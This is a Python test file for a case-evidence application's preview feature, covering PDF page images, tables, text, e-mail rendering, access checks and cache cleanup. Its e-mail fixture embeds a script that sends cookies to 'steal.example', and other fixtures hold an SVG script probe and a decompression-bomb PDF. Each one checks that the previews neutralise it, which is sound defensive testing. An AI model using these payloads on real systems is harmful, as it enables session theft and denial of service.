"""Evidence previews through real HTTP: real PDFs (made with WeasyPrint and pikepdf) drawn by the real render
processes, the PNGs read back with Pillow; CSV, JSON Lines, text and e-mail originals read back as the page will
show them; and what a preview leaves on disk."""

import io
import json
import os
import zlib
from email.message import EmailMessage
from pathlib import Path

import pikepdf
import pytest
from pikepdf import Dictionary, Name
from PIL import Image
from weasyprint import HTML

from api import preview_cache
from api.db import session_scope
from api.deps import get_blob_store
from api.services import orphans
from api.services import previews as preview_service

TEXT_CHARS = 200_000  # the default CASEBINDER_PREVIEW_TEXT_CHARS
TABLE_ROWS = 500  # the default CASEBINDER_PREVIEW_TABLE_ROWS

pytestmark = pytest.mark.slow  # starts render processes


def weasy_pdf(pages: list[str]) -> bytes:
    body = "".join(f'<section style="page-break-after: always">{page}</section>' for page in pages)
    return HTML(string=f"<html><body style='font-size: 24pt'>{body}</body></html>").write_pdf()


LETTERS = [f"<h1>Exhibit page {n}</h1><p>{'Paid five-star review refund. ' * 20}</p>" for n in (1, 2, 3)]
SCRIPTS = "<p>日本語のレビュー報酬 返金済み</p><p dir='rtl'>تم استرداد المبلغ مقابل مراجعة</p>"


@pytest.fixture(scope="module")
def four_pages() -> bytes:
    """Three pages of English, then one of Japanese and Arabic."""
    return weasy_pdf([*LETTERS, SCRIPTS])


def numbered_pdf(pages: int, tag: str = "") -> bytes:
    """`pages` pages, each with its number in large type (a standard font: quick to make, in any count)."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for n in range(1, pages + 1):
        page = pdf.add_blank_page(page_size=(612, 792))
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        page.obj.Contents = pdf.make_stream(f"BT /F1 64 Tf 72 600 Td (Page {n} {tag}) Tj ET".encode())
    buf = io.BytesIO()
    pdf.save(buf)
    return buf.getvalue()


def encrypted(data: bytes) -> bytes:
    buf = io.BytesIO()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        pdf.save(buf, encryption=pikepdf.Encryption(user="secret", owner="owner-secret"))
    return buf.getvalue()


def dark_pixels(png: bytes) -> int:
    with Image.open(io.BytesIO(png)) as im:
        return sum(im.convert("L").histogram()[:160])  # darker than light grey


def upload(actor, case: dict, content: bytes, filename: str) -> dict:
    r = actor.upload(case["id"], content, filename)
    assert r.status_code == 201, r.text
    return r.json()


def preview(actor, item: dict) -> dict:
    r = actor.get(f"/api/v1/evidence/{item['id']}/preview")
    assert r.status_code == 200, r.text
    return r.json()


def page_image(actor, item: dict, page, headers: dict | None = None, **params):
    return actor.get(f"/api/v1/evidence/{item['id']}/pages/{page}.png", params=params, headers=headers)


@pytest.mark.engine
def test_a_pdf_is_shown_as_page_images_drawn_on_the_server(alice, four_pages):
    case = alice.make_case()
    item = upload(alice, case, four_pages, "chat-export.pdf")
    found = preview(alice, item)
    assert found["mode"] == "pdf" and found["media_type"] == "application/pdf"
    assert (found["page_count"], found["pages_shown"], found["reason"]) == (4, 4, None)

    first = page_image(alice, item, 1, width=320)
    assert first.status_code == 200, first.text
    assert first.headers["content-type"] == "image/png"
    assert "max-age=31536000" in first.headers["cache-control"] and "private" in first.headers["cache-control"]
    with Image.open(io.BytesIO(first.content)) as im:
        assert im.format == "PNG" and im.width == 320
        assert im.height == pytest.approx(320 * 842 / 595, abs=2)  # A4, as WeasyPrint lays it out
    assert dark_pixels(first.content) > 200

    # The page of Japanese and Arabic is drawn with its glyphs, not left blank.
    scripts = page_image(alice, item, 4, width=800)
    assert scripts.status_code == 200
    with Image.open(io.BytesIO(scripts.content)) as im:
        assert im.width == 800
    assert dark_pixels(scripts.content) > 500

    # Widths snap to the sizes drawn: at least as wide as asked, at most 800.
    for asked, drawn in ((1, 160), (160, 160), (200, 320), (801, 800), (10_000, 800)):
        r = page_image(alice, item, 2, width=asked)
        assert r.status_code == 200
        with Image.open(io.BytesIO(r.content)) as im:
            assert im.width == drawn, asked
    assert page_image(alice, item, 2, width=0).status_code == 422
    assert page_image(alice, item, 2, width=10_001).status_code == 422

    # The browser may keep it: asked again with its ETag, nothing is sent.
    again = page_image(alice, item, 1, width=320, headers={"If-None-Match": first.headers["etag"]})
    assert again.status_code == 304 and again.content == b""


@pytest.mark.engine
def test_pages_out_of_range_and_pdfs_that_cannot_be_drawn_are_said_so(alice, four_pages):
    case = alice.make_case()
    item = upload(alice, case, four_pages, "refund.pdf")
    for page in (0, 5, -1, 10**9):
        r = page_image(alice, item, page)
        assert r.status_code == 404, page
        assert "the PDF has 4 page(s)" in r.json()["detail"]
    assert page_image(alice, item, "one").status_code == 422

    locked = upload(alice, case, encrypted(four_pages), "locked.pdf")
    found = preview(alice, locked)
    assert (found["mode"], found["reason"]) == ("none", preview_service.ENCRYPTED)
    assert found["reason"].startswith("The PDF is encrypted")
    r = page_image(alice, locked, 1)
    assert (r.status_code, r.json()) == (422, {"detail": preview_service.ENCRYPTED, "code": "page_not_drawn"})

    damaged = upload(alice, case, four_pages[: len(four_pages) // 2], "damaged.pdf")
    assert damaged["media_type"] == "application/pdf"
    found = preview(alice, damaged)
    assert (found["mode"], found["reason"]) == ("none", preview_service.DAMAGED)
    assert found["reason"].startswith("The PDF is damaged")
    assert page_image(alice, damaged, 1).json()["code"] == "page_not_drawn"

    # Not a PDF: no pages at all.
    text = upload(alice, case, b"a note\n", "note.txt")
    r = page_image(alice, text, 1)
    assert r.status_code == 404 and "not a PDF" in r.json()["detail"]


@pytest.mark.engine
def test_a_300_page_pdf_shows_the_first_20_and_any_page_can_be_drawn(alice):
    case = alice.make_case()
    item = upload(alice, case, numbered_pdf(300), "long-chat.pdf")
    found = preview(alice, item)
    assert (found["mode"], found["page_count"], found["pages_shown"]) == ("pdf", 300, 20)
    last = page_image(alice, item, 300, width=160)
    assert last.status_code == 200 and dark_pixels(last.content) > 20
    assert page_image(alice, item, 301).status_code == 404


@pytest.mark.engine
def test_a_hostile_page_is_stopped_at_the_time_limit_and_the_server_carries_on(alice, settings, monkeypatch):
    """A page holding a 20,000 x 20,000 image (1.2 GB of pixels, 1 MB compressed): drawn within the memory
    ceiling, since PDFium scales it down as it decodes; with a time limit it cannot meet, the render process is
    stopped and the page is said not drawn, for a while, without trying again."""
    side = 20_000
    pdf = pikepdf.new()
    image = pikepdf.Stream(pdf, zlib.compress(b"\x00" * (side * side * 3), 9))
    image.Type, image.Subtype, image.Filter = Name.XObject, Name.Image, Name.FlateDecode
    image.Width, image.Height, image.ColorSpace, image.BitsPerComponent = side, side, Name.DeviceRGB, 8
    page = pdf.add_blank_page(page_size=(612, 792))
    page.obj.Resources = Dictionary(XObject=Dictionary(Im0=image))
    page.obj.Contents = pdf.make_stream(b"q 612 0 0 792 0 0 cm /Im0 Do Q")
    buf = io.BytesIO()
    pdf.save(buf)

    case = alice.make_case()
    item = upload(alice, case, buf.getvalue(), "bomb.pdf")
    assert preview(alice, item)["page_count"] == 1
    drawn = page_image(alice, item, 1, width=160)
    assert drawn.status_code == 200 and dark_pixels(drawn.content) > 160 * 200  # black, all over

    monkeypatch.setattr(settings, "preview_render_timeout_seconds", 0.2)
    stopped = page_image(alice, item, 1, width=800)
    assert (stopped.status_code, stopped.json()["code"]) == (422, "page_not_drawn")
    assert "longer than the 0.2-second limit" in stopped.json()["detail"]
    monkeypatch.undo()
    assert page_image(alice, item, 1, width=800).json() == stopped.json()  # remembered: not drawn again yet

    other = upload(alice, case, numbered_pdf(2, "after"), "after.pdf")
    assert page_image(alice, other, 2).status_code == 200


def csv_preview(alice, case, content: bytes, name: str = "paypal_activity.csv") -> dict:
    found = preview(alice, upload(alice, case, content, name))
    assert found["mode"] == "table", found
    return found


@pytest.mark.engine
def test_csv_tables_in_utf8_with_a_bom_and_in_windows_1252(alice):
    case = alice.make_case()
    lines = ["date,amount,note"] + [f"2021-03-{n % 28 + 1:02d},{n}.00,refund {n}" for n in range(600)]
    found = csv_preview(alice, case, ("\ufeff" + "\r\n".join(lines) + "\r\n").encode())
    assert found["columns"] == ["date", "amount", "note"]  # the BOM is not part of the first name
    assert len(found["rows"]) == TABLE_ROWS and found["truncated"] is True
    assert found["rows"][0] == ["2021-03-01", "0.00", "refund 0"]
    assert found["row_numbers"][:2] == [2, 3] and found["row_numbers"][-1] == TABLE_ROWS + 1
    assert "Only the first 500 rows" in found["note"]

    western = "payer,memo\r\nJosé Núñez,Café – 5€ “bonus”\r\nZoë,naïve\r\n".encode("cp1252")
    found = csv_preview(alice, case, western, "export.csv")
    assert found["rows"] == [["José Núñez", "Café – 5€ “bonus”"], ["Zoë", "naïve"]]
    assert found["truncated"] is False and "Windows-1252" in found["note"]


@pytest.mark.engine
def test_json_lines_of_flat_objects_are_a_table_and_a_json_document_is_text(alice):
    case = alice.make_case()
    records = [{"from": "seller", "to": f"reviewer{n}", "amount": n, "paid": n % 2 == 0} for n in range(3)]
    jsonl = "\n".join(json.dumps(r) for r in records).encode()
    found = preview(alice, upload(alice, case, jsonl, "exchanges.jsonl"))
    assert found["mode"] == "table"
    assert found["columns"] == ["from", "to", "amount", "paid"]
    assert found["rows"][2] == ["seller", "reviewer2", "2", "true"] and found["row_numbers"] == [1, 2, 3]

    document = json.dumps({"order": {"id": "114-2231", "items": [1, 2]}}).encode()
    found = preview(alice, upload(alice, case, document, "order.json"))
    assert found["mode"] == "text" and found["text"] == json.dumps(json.loads(document), indent=2)


@pytest.mark.engine
def test_text_is_shown_up_to_the_limit_and_a_binary_file_not_at_all(alice):
    case = alice.make_case()
    line = "Ordered and reviewed five stars then refunded. Ünïcode ✓\n"
    found = preview(alice, upload(alice, case, (line * 6000).encode(), "chat.txt"))
    assert found["mode"] == "text" and len(found["text"]) == TEXT_CHARS
    assert found["truncated"] is True and found["text"] == (line * 6000)[:TEXT_CHARS]

    short = preview(alice, upload(alice, case, "Kurzer Text: Grüße\n".encode("cp1252"), "brief.txt"))
    assert (short["text"], short["truncated"]) == ("Kurzer Text: Grüße\n", False)
    assert "Windows-1252" in short["note"]

    binary = preview(alice, upload(alice, case, bytes(range(256)) * 64, "dump.bin"))
    assert binary["mode"] == "none" and binary["reason"] == preview_service.CANNOT

    png = io.BytesIO()
    Image.new("RGB", (40, 30), "navy").save(png, "PNG")
    assert preview(alice, upload(alice, case, png.getvalue(), "review.png"))["mode"] == "image"

    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    assert preview(alice, upload(alice, case, svg, "logo.svg"))["mode"] in ("none", "text")


def message(html_only: bool) -> bytes:
    msg = EmailMessage()
    msg["From"] = "Velkora Support <support@velkora.example>"
    msg["To"] = "emily.smith@mail.example"
    msg["Cc"] = "refunds@velkora.example"
    msg["Date"] = "Tue, 09 Mar 2021 10:15:00 +0000"
    msg["Subject"] = "Your refund for a 5-star review"
    html = (
        "<html><head><style>p {color: red}</style></head><body><p>Dear <b>Emily</b>,</p>"
        "<script>document.location='https://steal.example/?c='+document.cookie</script>"
        "<p>Leave 5 stars and <a href='https://velkora.example/refund'>claim your refund</a>.</p></body></html>"
    )
    if html_only:
        msg.set_content(html, subtype="html")
    else:
        msg.set_content("Dear Emily,\nLeave 5 stars and we refund you in full.\n")
        msg.add_alternative(html, subtype="html")
        msg.add_attachment(b"%PDF-1.4 receipt", maintype="application", subtype="pdf", filename="receipt.pdf")
    return bytes(msg)


@pytest.mark.engine
def test_e_mail_shows_its_headers_and_text_and_never_the_senders_html(alice):
    case = alice.make_case()
    found = preview(alice, upload(alice, case, message(html_only=False), "refund-offer.eml"))
    assert found["mode"] == "email"
    headers = {h["name"]: h["value"] for h in found["headers"]}
    assert headers["From"] == "Velkora Support <support@velkora.example>"
    assert headers["Subject"] == "Your refund for a 5-star review"
    assert {"To", "Cc", "Date"} <= headers.keys()
    assert found["text"] == "Dear Emily,\nLeave 5 stars and we refund you in full.\n"
    assert found["attachments"] == ["receipt.pdf"]

    found = preview(alice, upload(alice, case, message(html_only=True), "html-only.eml"))
    assert found["mode"] == "email" and "HTML part" in found["note"]
    text = found["text"]
    assert "Dear Emily," in text and "claim your refund [https://velkora.example/refund]" in text
    for markup in ("<", "script", "document.cookie", "steal.example", "color: red"):
        assert markup not in text


def test_only_members_see_previews_and_each_preview_is_recorded(alice, bob, four_pages):
    case = alice.make_case()
    item = upload(alice, case, four_pages, "chat.pdf")
    preview(alice, item)
    for path in (f"/api/v1/evidence/{item['id']}/preview", f"/api/v1/evidence/{item['id']}/pages/1.png"):
        outsider, ghost = bob.get(path), bob.get(path.replace(item["id"], "00000000-0000-4000-8000-000000000000"))
        assert (outsider.status_code, outsider.json()) == (404, ghost.json())
        assert alice.client.get(path).status_code == 401
    events = alice.get(f"/api/v1/cases/{case['id']}/audit", params={"action": "evidence.preview"}).json()["items"]
    assert [(e["evidence_id"], e["actor_email"], e["details"]) for e in events] == [
        (item["id"], alice.email, {"mode": "pdf"})
    ]
    assert page_image(alice, item, 1).status_code == 200
    # Page images are not recorded one by one.
    assert len(alice.get(f"/api/v1/cases/{case['id']}/audit", params={"action": "evidence."}).json()["items"]) == 2


def test_page_images_are_a_cache_outside_the_blob_area_and_leave_with_their_original(alice, make_user):
    case = alice.make_case()
    item = upload(alice, case, numbered_pdf(2, "cached"), "cached.pdf")
    first = page_image(alice, item, 1)
    cached = preview_cache.page_path(item["sha256"], 1, 320)
    assert cached.read_bytes() == first.content

    # Deleting the cache costs a new drawing, nothing else.
    preview_cache.forget(item["sha256"])
    assert page_image(alice, item, 1).content == first.content and cached.is_file()

    # Neither verify nor the orphan sweep sees the cache as files of the store.
    store = get_blob_store()
    assert not [f for f in store.list_files() if "previews" in f.key or f.sha256 is None]
    with session_scope() as session:
        assert item["sha256"] not in {o.sha256 for o in orphans.scan(session, store).orphans}

    # A purged original takes what was drawn from it along.
    assert alice.delete(f"/api/v1/evidence/{item['id']}", params={"reason": "wrong case"}).status_code == 204
    admin = make_user(admin=True)
    assert admin.post("/api/v1/admin/purge").status_code == 200
    assert not store.exists(item["sha256"]) and not preview_cache.folder(item["sha256"]).exists()


@pytest.mark.engine
def test_the_generated_corpus_previews_as_each_kind_should(alice, corpus):
    case = alice.make_case()
    expected = {".png": "image", ".jpg": "image", ".pdf": "pdf", ".eml": "email", ".csv": "table", ".jsonl": "table"}
    seen = set()
    for demo in corpus:
        item = upload(alice, case, demo.path.read_bytes(), demo.path.name)
        found = preview(alice, item)
        assert found["mode"] == expected[demo.path.suffix], (demo.path.name, found)
        seen.add(demo.path.suffix)
        if found["mode"] == "pdf":
            with pikepdf.open(demo.path) as pdf:
                assert found["page_count"] == len(pdf.pages)
            assert dark_pixels(page_image(alice, item, 1, width=320).content) > 100
        elif found["mode"] == "email":
            assert found["text"].strip() and {h["name"] for h in found["headers"]} >= {"From", "Subject"}
        elif found["mode"] == "table":
            assert found["columns"] and len(found["rows"]) == 40 and not found["truncated"]
    assert seen == set(expected)


def render_processes() -> list[Path]:
    """The /proc entries of this process's render processes (they name themselves cb-render)."""
    mine = str(os.getpid())
    found = []
    for proc in Path("/proc").glob("[0-9]*"):
        try:
            stat = (proc / "stat").read_text()
        except OSError:
            continue
        name, fields = stat[stat.index("(") + 1 : stat.rindex(")")], stat[stat.rindex(")") + 2 :].split()
        if name == "cb-render" and fields[1] == mine:
            found.append(proc)
    return found


@pytest.mark.engine
def test_render_processes_run_under_the_memory_ceiling(alice, settings):
    case = alice.make_case()
    assert page_image(alice, upload(alice, case, numbered_pdf(1, "ceiling"), "ceiling.pdf"), 1).status_code == 200
    processes = render_processes()
    assert 1 <= len(processes) <= settings.preview_renderers
    ceiling = str(settings.preview_render_memory_mib * 1024 * 1024)
    for proc in processes:
        limit = next(line for line in (proc / "limits").read_text().splitlines() if line.startswith("Max address"))
        assert limit.split()[3:5] == [ceiling, ceiling], limit
